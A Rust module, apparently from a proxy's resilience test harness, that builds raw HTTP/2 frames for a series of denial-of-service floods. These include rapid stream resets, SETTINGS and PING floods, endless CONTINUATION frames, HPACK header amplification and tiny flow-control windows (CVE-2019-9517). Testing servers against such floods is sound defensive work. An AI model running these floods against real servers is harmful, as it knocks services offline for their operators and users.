//! Attacks by frames of HTTP/2 (RFC 9113).

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::Stranger;

/// Ten thousand requests, each reset at once.
pub async fn rapid_resets(stranger: Stranger) {
    let cancel = 8u32.to_be_bytes();
    flood(stranger, 10_000, |number| {
        let id = 2 * number + 1;
        [get(id), frame(RST_STREAM, 0, id, &cancel)].concat()
    })
    .await;
}

/// SETTINGS, each of which has to be acknowledged.
pub async fn settings(stranger: Stranger) {
    flood(stranger, ENDLESS, |_| frame(SETTINGS, 0, 0, b"")).await;
}

/// PING, each of which has to be answered.
pub async fn pings(stranger: Stranger) {
    flood(stranger, ENDLESS, |_| frame(PING, 0, 0, b"12345678")).await;
}

/// A header block that does not end.
pub async fn continuation(stranger: Stranger) {
    flood(stranger, ENDLESS, |number| match number {
        0 => frame(HEADERS, 0, 1, &BLOCK),
        _ => frame(CONTINUATION, 0, 1, b""),
    })
    .await;
}

/// A body of empty frames.
pub async fn empty_data(stranger: Stranger) {
    flood(stranger, ENDLESS, |number| match number {
        0 => frame(HEADERS, END_HEADERS, 1, &POST_BLOCK),
        _ => frame(DATA, 0, 1, b""),
    })
    .await;
}

/// Priorities of streams that do not exist.
pub async fn priority(stranger: Stranger) {
    flood(stranger, ENDLESS, |number| frame(PRIORITY, 0, 2 * number + 3, &[0, 0, 0, 1, 0])).await;
}

/// Heads whose few bytes stand for many: one field in the table of the compression, named again and again.
pub async fn large_heads(stranger: Stranger) {
    // A literal with incremental indexing (RFC 7541, section 6.2.1): `x` and 4,000 bytes.
    let mut field = vec![0x40, 1, b'x', 0x7f, 0xa1, 0x1e];
    field.extend([b'y'; 4000]);
    let first = [&BLOCK[..], &field].concat();
    let again = [&BLOCK[..], &[0xbe; 4000]].concat();
    flood(stranger, ENDLESS, |number| match number {
        0 => frame(HEADERS, END_HEADERS | END_STREAM, 1, &first),
        _ => frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &again),
    })
    .await;
}

/// Large responses on many streams, of which the client takes a byte at a time (CVE-2019-9517).
pub async fn small_windows(stranger: Stranger) {
    // SETTINGS_INITIAL_WINDOW_SIZE, RFC 9113, section 6.5.2.
    let window = [&4u16.to_be_bytes()[..], &1u32.to_be_bytes()].concat();
    let get_large = [&[0x82, 0x86, 0x01, 1, b'a', 0x04, 6], &b"/large"[..]].concat();
    flood(stranger, ENDLESS, |number| match number {
        0 => frame(SETTINGS, 0, 0, &window),
        1..=100 => frame(HEADERS, END_HEADERS | END_STREAM, 2 * number - 1, &get_large),
        _ => frame(WINDOW_UPDATE, 0, 2 * (number % 100) + 1, &1u32.to_be_bytes()),
    })
    .await;
}

/// A part of the preface, and then nothing.
pub async fn half_preface(mut stranger: Stranger) {
    let _ = stranger.stream.write_all(&PREFACE[..20]).await;
    stranger.sent(1);
    let mut rest = Vec::new();
    let _ = stranger.stream.read_to_end(&mut rest).await;
    stranger.ended();
}

/// Sends the preface, then what `frames` gives, and reads what comes, until the proxy ends it or it was sent
/// `times` times and answered.
async fn flood(mut stranger: Stranger, times: u32, frames: impl Fn(u32) -> Vec<u8>) {
    let start = [&PREFACE[..], &frame(SETTINGS, 0, 0, b"")].concat();
    if stranger.stream.write_all(&start).await.is_err() {
        return stranger.ended();
    }
    let counts = stranger.counts;
    let (mut read, mut write) = stranger.stream.split();
    let sending = async {
        for number in 0..times {
            if write.write_all(&frames(number)).await.is_err() {
                return;
            }
            counts.sent.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        }
        // What is not refused is waited for.
        std::future::pending::<()>().await;
    };
    let reading = async {
        let mut bytes = vec![0; 16 * 1024];
        while matches!(read.read(&mut bytes).await, Ok(1..)) {}
    };
    tokio::select! {
        () = sending => (),
        () = reading => (),
    }
    stranger.ended();
}

fn get(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &BLOCK)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [.., high, middle, low] = payload.len().to_be_bytes();
    [&[high, middle, low, kind, flags], &stream.to_be_bytes()[..], payload].concat()
}

const PREFACE: &[u8; 24] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// `GET / http` by the static table, and `:authority: a` (RFC 7541, appendix A).
const BLOCK: [u8; 6] = [0x82, 0x84, 0x86, 0x01, 1, b'a'];
const POST_BLOCK: [u8; 6] = [0x83, 0x84, 0x86, 0x01, 1, b'a'];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const ENDLESS: u32 = 1_000_000;
